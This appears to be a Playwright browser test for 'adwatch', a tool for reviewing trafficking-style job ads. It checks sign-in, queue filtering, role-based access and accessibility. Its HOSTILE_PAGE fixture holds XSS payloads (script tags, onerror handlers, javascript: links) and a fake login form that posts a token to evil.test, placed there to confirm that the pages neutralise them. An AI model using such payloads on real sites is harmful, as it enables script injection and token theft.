// adwatch's pages in a real browser: Debian's chromium (/usr/bin/chromium) driven by
// playwright-core, against `adwatch demo --serve` on loopback over a copy of the sample site with
// one hostile ad added. Checks what people do (sign in, filter the queue, label an ad with a key,
// check a text as an NGO) and what must never happen (a hostile ad running script, opening a
// dialog or making the browser ask any host but the server; an NGO opening a police page); runs
// axe-core on every page; saves desktop and phone screenshots.
//
//   ADWATCH_BIN=build/app/adwatch node tests/browser/pages_test.js
//   ADWATCH_SHOTS=docs/img  … also writes the screenshots there (scripts/screenshots.sh)
//
// Prints "N passed, M failed" and exits non-zero on any failure; exits 77 (CTest: skipped) when
// chromium or the npm packages are missing.
'use strict';

const fs = require('fs');
const os = require('os');
const path = require('path');
const { spawn, spawnSync } = require('child_process');

const SOURCE = path.resolve(__dirname, '..', '..');
const BIN = process.env.ADWATCH_BIN || path.join(SOURCE, 'build', 'app', 'adwatch');
const CHROMIUM = process.env.ADWATCH_CHROMIUM || '/usr/bin/chromium';
const SKIP = 77;

let chromium, axeSource;
try {
  ({ chromium } = require('playwright-core'));
  axeSource = require('axe-core').source;
} catch (e) {
  console.log('SKIP: npm packages missing (run `npm ci` in tests/browser): ' + e.message);
  process.exit(SKIP);
}
if (!fs.existsSync(CHROMIUM)) {
  console.log('SKIP: no chromium at ' + CHROMIUM + ' (apt-get install chromium)');
  process.exit(SKIP);
}
if (!fs.existsSync(BIN)) {
  console.error('no adwatch binary at ' + BIN);
  process.exit(1);
}
// Hermetic: nothing may go through a proxy.
for (const v of ['http_proxy', 'https_proxy', 'HTTP_PROXY', 'HTTPS_PROXY', 'ALL_PROXY', 'all_proxy']) {
  delete process.env[v];
}

const HOSTILE_MARK = 'ZXQ';
// The hostile ad: markup that would run script, open a dialog, load from another host or collect
// a token if the pages ever rendered it, both as real tags (the raw page) and as text (the ad).
const HOSTILE_PAGE = `<!doctype html>
<html lang="id"><head><meta charset="utf-8"><title>${HOSTILE_MARK} Lowongan admin Kamboja</title>
<style>body{background:url(http://evil.test/bg.png)}</style>
<link rel="stylesheet" href="http://evil.test/x.css">
<script>window.__pwned = 1; alert('pwned');</script>
</head><body>
<h1>${HOSTILE_MARK} Admin Kamboja &lt;img src=x onerror="window.__pwned=1;alert(1)"&gt;</h1>
<p>Dibutuhkan admin input data untuk perusahaan di Phnom Penh, Kamboja. Gaji 15 juta per bulan,
tiket pesawat dan visa ditanggung, berangkat pakai visa turis, tanpa pengalaman, tidak perlu
ijazah. Hubungi WA 0812-9999-0000 segera, kuota terbatas.</p>
<p>&lt;script&gt;window.__pwned=1;alert(2)&lt;/script&gt; &lt;a href="javascript:alert(3)"&gt;daftar&lt;/a&gt;
&lt;style&gt;*{background:url(http://evil.test/y.png)}&lt;/style&gt;</p>
<img src="http://evil.test/pixel.png" onerror="window.__pwned=1;alert(4)">
<a href="javascript:alert(5)">Daftar sekarang</a>
<form action="http://evil.test/login" method="post"><h2>Masuk ke adwatch</h2>
<label>Token <input name="token" placeholder="adw_…"></label><button>Masuk</button></form>
<iframe src="http://evil.test/frame"></iframe>
</body></html>
`;

const results = { passed: 0, failed: 0 };
function check(ok, what) {
  if (ok) {
    results.passed++;
    console.log('ok   ' + what);
  } else {
    results.failed++;
    console.log('FAIL ' + what);
  }
}

function makeSite(dir) {
  const site = path.join(dir, 'site');
  fs.cpSync(path.join(SOURCE, 'examples', 'site'), site, { recursive: true });
  fs.writeFileSync(path.join(site, 'lowongan', 'admin-kamboja-zxq.html'), HOSTILE_PAGE);
  const index = path.join(site, 'lowongan', 'index.html');
  const html = fs.readFileSync(index, 'utf8');
  fs.writeFileSync(index, html.replace('</body>',
      '<p><a href="/lowongan/admin-kamboja-zxq.html">Admin Kamboja</a></p></body>'));
  return site;
}

// Starts `adwatch demo --serve` and resolves with the base URL and the tokens it prints.
function startServer(dir, site) {
  return new Promise((resolve, reject) => {
    const child = spawn(BIN, ['demo', '--site', site, '--db', path.join(dir, 'db'), '--serve',
      '--listen', '127.0.0.1:0'], { stdio: ['ignore', 'pipe', 'pipe'] });
    let out = '';
    const timer = setTimeout(() => reject(new Error('demo --serve did not start:\n' + out)), 120000);
    const onData = (d) => {
      out += d.toString();
      const base = /The pages are at (http:\/\/127\.0\.0\.1:\d+)\/login/.exec(out);
      const police = /police\s+(adw_\S+)/.exec(out);
      const ngo = /NGO\s+(adw_\S+)/.exec(out);
      const tf = /task force\s+(adw_\S+)/.exec(out);
      if (base && police && ngo && tf) {
        clearTimeout(timer);
        resolve({ child, base: base[1], police: police[1], ngo: ngo[1], taskforce: tf[1] });
      }
    };
    child.stdout.on('data', onData);
    child.stderr.on('data', (d) => { out += d.toString(); });
    child.on('exit', (code) => reject(new Error('demo exited ' + code + ':\n' + out)));
  });
}

async function main() {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'adwatch-browser-'));
  const shotsDirs = [path.join(dir, 'shots')];
  if (process.env.ADWATCH_SHOTS) shotsDirs.push(path.resolve(process.env.ADWATCH_SHOTS));
  for (const d of shotsDirs) fs.mkdirSync(d, { recursive: true });
  const server = await startServer(dir, makeSite(dir));
  const base = server.base;
  const offsite = [];     // requests for another host that reached the network layer
  const attempted = [];   // requests for another host the page made at all
  const cspBlocked = [];  // ... of which the browser's CSP stopped before any network
  const dialogs = [];
  const pageErrors = [];
  const browser = await chromium.launch({
    executablePath: CHROMIUM,
    headless: true,
    // --no-sandbox: inside `unshare -rn` (CTest) chromium's own sandbox cannot start.
    args: ['--no-sandbox', '--disable-dev-shm-usage', '--no-proxy-server'],
  });

  // A fresh context per user, recording every request and refusing any that leaves the server.
  async function newContext(viewport) {
    const context = await browser.newContext({ viewport, deviceScaleFactor: 1, locale: 'id-ID' });
    context.on('request', (r) => {
      if (!r.url().startsWith(base + '/')) attempted.push(r.url());
    });
    context.on('requestfailed', (r) => {
      if (!r.url().startsWith(base + '/') && r.failure() && r.failure().errorText === 'csp') {
        cspBlocked.push(r.url());
      }
    });
    // Anything for another host that gets past the page's CSP to the network is recorded (and
    // aborted, so that even a failing test sends nothing out).
    await context.route('**/*', (r) => {
      if (r.request().url().startsWith(base + '/')) return r.continue();
      offsite.push(r.request().url());
      return r.abort();
    });
    context.on('page', (p) => watch(p));
    return context;
  }
  function watch(page) {
    page.on('dialog', (d) => { dialogs.push(d.message()); d.dismiss().catch(() => {}); });
    page.on('pageerror', (e) => pageErrors.push(String(e)));
  }
  async function open(context) {
    const page = await context.newPage();
    return page;
  }
  async function ready(page) {
    await page.waitForSelector('body[data-ready="1"]', { timeout: 10000 });
  }
  async function axe(page, name) {
    await page.evaluate(axeSource);
    const violations = await page.evaluate(async () => {
      // eslint-disable-next-line no-undef
      const r = await axe.run(document, { resultTypes: ['violations'] });
      return r.violations.map((v) => ({ id: v.id, impact: v.impact, help: v.help, n: v.nodes.length }));
    });
    const bad = violations.filter((v) => v.impact === 'serious' || v.impact === 'critical');
    for (const v of bad) console.log(`     axe ${name}: ${v.impact} ${v.id} (${v.n}): ${v.help}`);
    check(bad.length === 0, `axe: no serious or critical violation on ${name}`);
  }
  const shots = [];
  async function shoot(page, name) {
    shots.push([page.url(), name]);
  }
  async function signIn(page, token) {
    await page.goto(base + '/login');
    await ready(page);
    await page.fill('#token', token);
    await Promise.all([page.waitForNavigation(), page.click('main button[type=submit]')]);
  }

  // --- Police -------------------------------------------------------------------------------
  const police = await newContext({ width: 1280, height: 800 });
  let page = await open(police);
  await page.goto(base + '/login');
  await ready(page);
  await axe(page, 'login');
  await shoot(page, 'login');
  await signIn(page, server.police);
  check(new URL(page.url()).pathname === '/review', 'police sign-in lands on the queue');
  await ready(page);
  const rows = await page.locator('tr[data-ad]').count();
  check(rows >= 5, `the queue lists the demo's ads (${rows} rows)`);
  await axe(page, 'queue');
  await shoot(page, 'queue');

  // Filter: high only.
  await page.selectOption('#f-level', 'high');
  await Promise.all([page.waitForNavigation(), page.click('form.filters button[type=submit]')]);
  check(/min_level=high/.test(page.url()), 'the filter form puts the level in the address');
  const levels = await page.locator('tr[data-ad] .lvl').evaluateAll((els) => els.map((e) => e.className));
  check(levels.length > 0 && levels.length < rows && levels.every((c) => c.includes('lvl-high')),
    `the high filter leaves only high ads (${levels.length} of ${rows})`);

  // Keyboard: j selects the first row; open it; 1 labels it confirmed.
  await ready(page);
  await page.keyboard.press('j');
  const firstId = await page.locator('tr.sel').getAttribute('data-ad');
  check(!!firstId, 'j selects a row of the queue');
  await Promise.all([page.waitForNavigation(), page.keyboard.press('Enter')]);
  check(page.url().includes('/review/ads/' + firstId), 'Enter opens the selected ad');
  await ready(page);
  await axe(page, 'ad');
  await shoot(page, 'ad');
  await Promise.all([page.waitForNavigation(), page.keyboard.press('1')]);
  await ready(page);
  const trail = await page.locator('#reviews').innerText();
  check(trail.includes('Terkonfirmasi') && trail.includes('Analis Polda (demo)'),
    'pressing 1 labels the ad confirmed and the label trail says who');

  // The hostile ad.
  await page.goto(base + '/review');
  await ready(page);
  const hostileRow = page.locator(`tr[data-ad]:has-text("${HOSTILE_MARK}")`);
  check(await hostileRow.count() === 1, 'the hostile ad is in the queue once');
  const hostileId = await hostileRow.first().getAttribute('data-ad');
  await page.goto(base + '/review/ads/' + hostileId);
  await ready(page);
  const frame = page.locator('iframe.raw');
  check(await frame.getAttribute('sandbox') === '', 'the raw page sits in a sandboxed frame');
  await page.waitForTimeout(1500);  // let the frame load and anything in it try to run
  const adText = await page.locator('#adtext').innerText();
  check(adText.includes('<script>') && adText.includes('javascript:'),
    'the hostile markup shows as text in the ad');
  check(await page.evaluate(() => window.__pwned) === undefined, 'no hostile script ran');
  check(await page.locator('main img').count() === 0, 'no <img> from the ad on the page');
  check(await page.locator('main a[href^="javascript:"]').count() === 0, 'no javascript: link');
  await axe(page, 'hostile ad');
  await shoot(page, 'ad-hostile');

  // A contact's page and a deconfliction note.
  const contactLink = page.locator('#contacts a').first();
  if (await contactLink.count()) {
    await Promise.all([page.waitForNavigation(), contactLink.click()]);
    await ready(page);
    await page.fill('#note-text', 'Unit Siber Polda NTT menangani nomor ini');
    await Promise.all([page.waitForNavigation(), page.click('main form button[type=submit]')]);
    await ready(page);
    check((await page.locator('.deconf').innerText()).includes('Unit Siber Polda NTT'),
      'a deconfliction note shows on the contact');
    await axe(page, 'contact');
  } else {
    check(false, 'the hostile ad has a contact link');
  }
  await police.close();

  // --- NGO ----------------------------------------------------------------------------------
  const ngo = await newContext({ width: 1280, height: 800 });
  page = await open(ngo);
  await signIn(page, server.ngo);
  check(new URL(page.url()).pathname === '/check', 'NGO sign-in lands on the check page');
  await ready(page);
  await axe(page, 'check');
  await page.fill('#text', 'Lowongan kerja ke Kamboja gaji 15 juta, tiket dan visa ditanggung, ' +
      'berangkat pakai visa turis. Hubungi WA 0812-9999-0000.');
  await Promise.all([page.waitForNavigation(), page.click('main form.check button[type=submit]')]);
  await page.waitForSelector('#verdict', { timeout: 30000 });
  const verdict = await page.locator('#verdict').innerText();
  check(/Risiko/.test(verdict), 'the NGO sees the verdict in Indonesian');
  await ready(page);
  await axe(page, 'check result');
  await shoot(page, 'check-result');
  await page.goto(base + '/check');
  await ready(page);
  await shoot(page, 'check');
  const denied = await page.goto(base + '/review');
  check(denied.status() === 403, 'an NGO token cannot open the police queue (403)');
  const deniedAd = await page.goto(base + '/review/ads/' + hostileId);
  check(deniedAd.status() === 403, 'an NGO token cannot open a police ad page (403)');
  await ngo.close();

  // --- Task force ---------------------------------------------------------------------------
  const tf = await newContext({ width: 1280, height: 800 });
  page = await open(tf);
  await signIn(page, server.taskforce);
  check(new URL(page.url()).pathname === '/digests', 'task-force sign-in lands on the digests');
  await ready(page);
  await axe(page, 'digests');
  await shoot(page, 'digests');
  const digestLink = page.locator('#digests a').first();
  if (await digestLink.count()) {
    await Promise.all([page.waitForNavigation(), digestLink.click()]);
    await ready(page);
    await page.waitForTimeout(500);
    await shoot(page, 'digest');
  }
  await tf.close();

  // --- Screenshots: desktop and phone, signed in as the page's user ---------------------------
  for (const [viewport, suffix] of [[{ width: 1280, height: 800 }, 'desktop'], [{ width: 390, height: 844 }, 'phone']]) {
    const who = { login: null, queue: server.police, ad: server.police, 'ad-hostile': server.police,
      'check-result': server.ngo, check: server.ngo, digests: server.taskforce, digest: server.taskforce };
    const signed = {};
    for (const [url, name] of shots) {
      const token = who[name];
      let ctx = signed[token || 'none'];
      if (!ctx) {
        ctx = await newContext(viewport);
        const p = await ctx.newPage();
        if (token) await signIn(p, token);
        await p.close();
        signed[token || 'none'] = ctx;
      }
      const p = await ctx.newPage();
      await p.goto(url);
      await ready(p);
      await p.waitForTimeout(300);
      for (const d of shotsDirs) await p.screenshot({ path: path.join(d, `web-${name}-${suffix}.png`) });
      await p.close();
    }
    for (const ctx of Object.values(signed)) await ctx.close();
  }
  const saved = fs.readdirSync(shotsDirs[0]).filter((f) => f.endsWith('.png'));
  check(saved.some((f) => f.endsWith('-phone.png')) && saved.some((f) => f.endsWith('-desktop.png')),
    `phone and desktop screenshots saved (${saved.length} in ${shotsDirs[0]})`);

  await browser.close();
  check(dialogs.length === 0, `no dialog opened (${dialogs.join(' | ')})`);
  check(offsite.length === 0, `no request reached the network for another host (${offsite.join(' ')})`);
  check(attempted.length === cspBlocked.length,
    `every other-host request the hostile page tried was stopped by CSP (${attempted.length} tried, ` +
    `${cspBlocked.length} stopped)`);
  check(pageErrors.length === 0, `no page error (${pageErrors.join(' | ')})`);

  server.child.kill('SIGINT');
  await new Promise((r) => server.child.once('exit', r));
  if (!process.env.ADWATCH_KEEP) fs.rmSync(dir, { recursive: true, force: true });
}

main().then(() => {
  console.log(`${results.passed} passed, ${results.failed} failed`);
  process.exit(results.failed === 0 ? 0 : 1);
}, (e) => {
  console.log(`${results.passed} passed, ${results.failed + 1} failed`);
  console.error(e && e.stack ? e.stack : e);
  process.exit(1);
});
